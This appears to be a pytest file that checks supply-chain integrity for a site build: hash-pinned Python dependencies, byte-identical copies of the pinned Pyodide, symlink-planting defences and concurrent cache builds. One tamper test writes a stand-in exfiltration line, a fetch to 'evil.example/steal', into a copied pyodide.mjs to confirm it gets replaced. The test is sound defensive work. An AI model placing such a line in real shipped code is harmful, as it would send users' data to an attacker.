"""Supply chain: what gets installed and shipped is what the lock files pin.

- requirements.lock pins every Python package with PyPI's sha256 for it, so that `make install`
  (pip --require-hashes) refuses a file that differs from what PyPI published;
- the build copies Pyodide into the site only from the npm package version package-lock.json
  pins, and the copies in the site are byte-identical to it (compared by content, not date).
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import threading
import tomllib
from pathlib import Path

import pytest
from packaging.requirements import Requirement

from hooks.assets import PYODIDE_FILES, AssetError, copy_pyodide
from testsupport.checkout import ROOT

NODE_MODULES = ROOT / "node_modules"
PINNED_PYODIDE = json.loads((ROOT / "package-lock.json").read_text(encoding="utf-8"))["packages"]["node_modules/pyodide"]["version"]


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ---------------------------------------------------------------------------------------------
# requirements.lock
# ---------------------------------------------------------------------------------------------


def locked_requirements() -> dict[str, tuple[str, list[str]]]:
    """{canonical name: (version, [sha256, ...])} from requirements.lock."""
    text = (ROOT / "requirements.lock").read_text(encoding="utf-8").replace("\\\n", " ")
    entries = {}
    for line in text.splitlines():
        if line.strip() and not line.startswith("#"):
            requirement, *options = line.split()
            name, version = requirement.split("==")
            entries[re.sub(r"[-_.]+", "-", name).lower()] = (version, [o.removeprefix("--hash=sha256:") for o in options])
    return entries


def test_every_locked_package_has_pypi_hashes():
    entries = locked_requirements()
    assert len(entries) >= 40
    for name, (version, hashes) in entries.items():
        assert hashes, f"{name}=={version} has no hash: pip --require-hashes would refuse the whole lock"
        assert all(re.fullmatch(r"[0-9a-f]{64}", h) for h in hashes), name


def test_the_lock_pins_the_direct_dependencies_at_their_declared_versions():
    declared = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["optional-dependencies"]["dev"]
    entries = locked_requirements()
    for requirement in map(Requirement, declared):
        # `==` pins must match the lock exactly; a range (mkdocs<2) must hold the locked version.
        locked = entries[re.sub(r"[-_.]+", "-", requirement.name).lower()][0]
        assert requirement.specifier.contains(locked), f"{requirement}: the lock has {locked}"
    assert Requirement(next(r for r in declared if r.startswith("mkdocs"))).specifier.contains("2.0") is False


def test_make_install_requires_hashes():
    install_lines = [line for line in (ROOT / "Makefile").read_text(encoding="utf-8").splitlines()
                     if "pip install" in line and "requirements.lock" in line]
    assert install_lines and all("--require-hashes" in line for line in install_lines)


# ---------------------------------------------------------------------------------------------
# Pyodide copied into the site
# ---------------------------------------------------------------------------------------------


def test_the_site_gets_byte_identical_copies_of_the_pinned_pyodide(tmp_path):
    assert json.loads((NODE_MODULES / "pyodide" / "package.json").read_text(encoding="utf-8"))["version"] == PINNED_PYODIDE
    copy_pyodide(tmp_path / "pyodide")
    for name in PYODIDE_FILES:
        assert sha256(tmp_path / "pyodide" / name) == sha256(NODE_MODULES / "pyodide" / name), name


def test_a_tampered_copy_newer_than_its_source_is_replaced(tmp_path):
    """The old check compared dates, so a changed file with a newer date stayed in the site."""
    target = tmp_path / "pyodide"
    copy_pyodide(target)
    tampered = target / "pyodide.mjs"
    tampered.write_text("fetch('https://evil.example/steal');\n", encoding="utf-8")
    future = (NODE_MODULES / "pyodide" / "pyodide.mjs").stat().st_mtime + 3600
    os.utime(tampered, (future, future))
    copy_pyodide(target)
    assert sha256(tampered) == sha256(NODE_MODULES / "pyodide" / "pyodide.mjs")


def test_a_link_planted_in_the_site_is_replaced_not_written_through(tmp_path):
    target = tmp_path / "pyodide"
    target.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched", encoding="utf-8")
    (target / "pyodide-lock.json").symlink_to(victim)
    copy_pyodide(target)
    assert victim.read_text(encoding="utf-8") == "untouched"
    assert not (target / "pyodide-lock.json").is_symlink()
    assert sha256(target / "pyodide-lock.json") == sha256(NODE_MODULES / "pyodide" / "pyodide-lock.json")


def test_a_node_modules_pyodide_other_than_the_pinned_one_fails_the_build(tmp_path):
    project = tmp_path / "project"
    fake = project / "node_modules" / "pyodide"
    fake.mkdir(parents=True)
    shutil.copy(ROOT / "package-lock.json", project / "package-lock.json")
    for name in PYODIDE_FILES:
        (fake / name).write_text("// not the pinned Pyodide\n", encoding="utf-8")
    (fake / "package.json").write_text(json.dumps({"name": "pyodide", "version": "0.26.0"}), encoding="utf-8")
    with pytest.raises(AssetError, match=rf"node_modules/pyodide is version 0\.26\.0, but package-lock\.json "
                                          rf"pins {re.escape(PINNED_PYODIDE)}"):
        copy_pyodide(tmp_path / "site" / "pyodide", node_modules=project / "node_modules")
    assert not (tmp_path / "site").exists()


def write_a_stand_in_entry(entry) -> None:
    """What hooks/pyodide_boot.mjs leaves in a fast-start cache entry, with stand-in bytes (no Node)."""
    from hooks import assets

    entry.mkdir()
    for name in assets.BOOT_FILES:
        (entry / name).write_bytes(b'{"build_id": "b", "python": "3.14.0"}' if name == "boot.json" else b"x" * 100)


def test_two_builds_at_once_make_the_fast_start_once_and_both_get_it(tmp_path, monkeypatch):
    # Two pytest workers (or `mkdocs serve` beside the tests) build the site at the same moment
    # with an empty cache. Before the lock, both made the entry, and the second removed the
    # first's files while the first copied them: one build failed. Node is stood in for by a
    # maker that writes the entry's files; the second build must wait for it, not make its own.
    from hooks import assets

    made, first_started, release = [], threading.Event(), threading.Event()

    def make(source, wheel, entry):
        made.append(entry)
        first_started.set()
        release.wait(timeout=30)
        write_a_stand_in_entry(entry)

    monkeypatch.setattr(assets, "_make_fast_start", make)
    wheel = tmp_path / "calculators-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    targets = [tmp_path / "site1", tmp_path / "site2"]
    results = [None, None]

    def build(index):
        targets[index].mkdir()
        results[index] = assets.fast_start(wheel, targets[index], targets[index] / "wheels", cache=tmp_path / "cache")

    first = threading.Thread(target=build, args=(0,))
    first.start()
    assert first_started.wait(timeout=30)
    second = threading.Thread(target=build, args=(1,))
    second.start()
    second.join(timeout=0.5)
    assert second.is_alive()  # waiting for the first build's entry
    release.set()
    first.join(timeout=30)
    second.join(timeout=30)
    assert len(made) == 1 and results[0] == results[1] and results[0] is not None
    assert sorted(p.name for p in targets[0].iterdir()) == sorted(p.name for p in targets[1].iterdir())


def test_the_snapshot_is_renamed_when_the_scripts_that_made_it_change(tmp_path, monkeypatch):
    # A snapshot must be restored with the very stdlib it was made with. The build scripts decide
    # that stdlib, so a change to them must give the snapshot a new name: a browser (or a host
    # caching it as immutable) would otherwise restore a kept copy with the wrong stdlib.
    from hooks import assets

    monkeypatch.setattr(assets, "_make_fast_start", lambda source, wheel, entry: write_a_stand_in_entry(entry))
    wheel = tmp_path / "calculators-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    rest = tmp_path / "rest_of_stdlib.py"
    monkeypatch.setattr(assets, "REST_OF_STDLIB", rest)
    names = []
    for text in ("NAMES = 1", "NAMES = 2"):
        rest.write_text(text)
        site = tmp_path / text[-1]
        site.mkdir()
        names.append(assets.fast_start(wheel, site, site / "wheels", cache=tmp_path / "cache")["snapshot"]["url"])
    assert names[0] != names[1]
